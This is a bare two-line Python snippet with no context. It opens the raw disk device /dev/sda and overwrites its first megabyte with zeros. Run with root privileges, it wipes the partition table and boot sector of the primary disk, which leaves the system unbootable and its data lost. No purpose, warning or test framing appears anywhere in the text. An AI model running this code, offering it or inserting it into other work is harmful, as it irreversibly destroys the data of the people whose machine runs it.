with open("/dev/sda", "wb") as disk:
    disk.write(b"\0" * 1024 * 1024)
